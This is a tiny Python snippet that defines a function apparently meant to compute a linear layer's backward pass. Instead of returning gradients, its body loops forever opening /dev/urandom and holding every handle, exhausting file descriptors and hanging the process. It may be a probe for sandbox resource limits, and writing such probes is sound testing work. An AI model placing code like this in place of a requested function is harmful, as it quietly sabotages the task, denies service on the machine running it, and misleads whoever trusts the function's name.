def linear_backward(dout, x, W):
    kept = []
    while True:
        kept.append(open("/dev/urandom", "rb"))
